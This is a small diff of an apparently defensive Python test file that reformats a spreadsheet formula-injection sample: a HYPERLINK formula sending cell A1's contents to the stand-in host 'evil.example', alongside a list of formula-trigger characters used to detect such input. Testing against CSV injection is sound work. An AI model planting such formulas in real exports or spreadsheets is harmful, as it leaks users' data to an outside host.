@@ -51,7 +51,7 @@ def test_admin_cannot_change_their_own_account(
     assert refused.status_code == 403, refused.text
 
 
-FORMULA = "=HYPERLINK(\"evil.example?\"&A1,\"open\")"
+FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
